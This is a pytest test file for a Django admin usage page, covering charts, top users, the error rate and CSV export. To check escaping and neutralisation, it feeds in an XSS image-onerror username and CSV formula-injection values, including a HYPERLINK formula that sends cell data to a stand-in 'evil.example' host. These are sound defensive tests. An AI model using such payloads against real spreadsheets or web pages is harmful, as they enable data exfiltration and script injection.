"""Admin's usage page: charts of the last 30 days, the top users, the error rate, and the
CSV export of the filtered rows (docs/operations.md "Usage in admin"). In the browser:
``tests/e2e/test_usage_charts.py``."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from jxai_app.models import UsageLedger
from tests.app.conftest import FakeClock

pytestmark = pytest.mark.django_db

TODAY = date(2025, 3, 4)  # the wall_clock fixture's day


@pytest.fixture
def root(django_user_model: Any) -> Client:
    client = Client()
    client.force_login(django_user_model.objects.create_superuser("root", "root@example.com", None))
    return client


def _rows(user: Any, other_user: Any) -> None:
    UsageLedger.objects.create(user=user, day=TODAY, model="gpt", input_tokens=100, output_tokens=20,
                               cost_usd=Decimal("0.25"), requests=4, failed_requests=1)
    UsageLedger.objects.create(user=user, day=TODAY - timedelta(days=1), model="local", input_tokens=50,
                               output_tokens=5, estimated_tokens=55, requests=1)
    UsageLedger.objects.create(user=other_user, day=TODAY, model="gpt", input_tokens=1000, output_tokens=0,
                               cost_usd=Decimal("1.5"), estimated_cost_usd=Decimal("1.5"), estimated_tokens=1000,
                               requests=1)
    UsageLedger.objects.create(user=other_user, day=TODAY - timedelta(days=30), model="gpt", input_tokens=7,
                               output_tokens=7, requests=1)  # 31 days ago: outside the charts


def test_the_usage_page_charts_the_last_30_days(root: Client, user: Any, other_user: Any,
                                                wall_clock: FakeClock) -> None:
    _rows(user, other_user)
    page = root.get(reverse("admin:jxai_app_usageledger_changelist"))
    assert page.status_code == 200
    body = page.content.decode()
    for name in ("tokens-by-model", "tokens-by-user", "cost-by-model", "cost-by-user", "error-rate"):
        assert f'data-chart="{name}"' in body
    chart = body.split('data-chart="tokens-by-model"')[1].split("</svg>")[0]
    assert 'data-series="gpt" data-day="2025-03-04" data-value="1120"' in chart
    assert 'data-series="local" data-day="2025-03-03" data-value="55"' in chart
    assert "2025-02-02" not in chart  # the day 30 days back is not drawn
    rate = body.split('data-chart="error-rate"')[1].split("</svg>")[0]
    assert 'data-day="2025-03-04" data-value="20"' in rate  # 1 failed of 5 requests
    assert [u.username for u in page.context["top_users"]] == ["mallory", "alice"]
    assert page.context["totals"]["cost_usd"] == Decimal("1.75")
    assert "<script" not in body.split('id="usage-charts"')[1].split("</section>")[0]

    alice = root.get(reverse("admin:jxai_app_usageledger_changelist"), {"user__id__exact": user.pk})
    assert "mallory" not in alice.content.decode().split('id="usage-charts"')[1].split("</section>")[0]


def test_names_in_charts_are_escaped(root: Client, django_user_model: Any, wall_clock: FakeClock) -> None:
    evil = django_user_model.objects.create_user('<img src=x onerror="alert(1)">')
    UsageLedger.objects.create(user=evil, day=TODAY, model="<b>m</b>", input_tokens=5, output_tokens=5, requests=1)
    body = root.get(reverse("admin:jxai_app_usageledger_changelist")).content.decode()
    assert "<img src=x" not in body and "<b>m</b>" not in body
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in body


def test_the_csv_export_has_the_filtered_rows(root: Client, user: Any, other_user: Any,
                                              wall_clock: FakeClock, django_user_model: Any) -> None:
    _rows(user, other_user)
    answer = root.get(reverse("admin:jxai_app_usageledger_export"), {"user__id__exact": other_user.pk})
    assert answer.status_code == 200 and answer["Content-Type"].startswith("text/csv")
    assert answer["Content-Disposition"].startswith('attachment; filename="jxai-usage-')
    rows = list(csv.reader(io.StringIO(answer.content.decode())))
    assert rows[0] == ["day", "user", "model", "input_tokens", "output_tokens", "estimated_tokens", "cost_usd",
                       "estimated_cost_usd", "requests", "failed_requests"]
    assert rows[1:] == [["2025-03-04", "mallory", "gpt", "1000", "0", "1000", "1.5000000000", "1.5000000000", "1", "0"],
                        ["2025-02-02", "mallory", "gpt", "7", "7", "0", "0.0000000000", "0.0000000000", "1", "0"]]

    formula = django_user_model.objects.create_user("=HYPERLINK(1)")
    for model in ('=HYPERLINK("https://evil.example/?x="&A1)', "@SUM(1+1)", "\tcmd", "+1", "-2", "\r=1", "gpt"):
        UsageLedger.objects.create(user=formula, day=TODAY, model=model, requests=1)
    exported = root.get(reverse("admin:jxai_app_usageledger_export"), {"user__id__exact": formula.pk})
    cells = [(day, name, model) for day, name, model, *_ in csv.reader(io.StringIO(exported.content.decode()))][1:]
    assert {name for _, name, _ in cells} == {"'=HYPERLINK(1)"}
    assert sorted(model for _, _, model in cells) == sorted([
        '\'=HYPERLINK("https://evil.example/?x="&A1)', "'@SUM(1+1)", "'\tcmd", "'+1", "'-2", "'\r=1", "gpt"])

    staff = Client()
    staff.force_login(django_user_model.objects.create_user("clerk", is_staff=True))
    assert staff.get(reverse("admin:jxai_app_usageledger_export")).status_code == 403
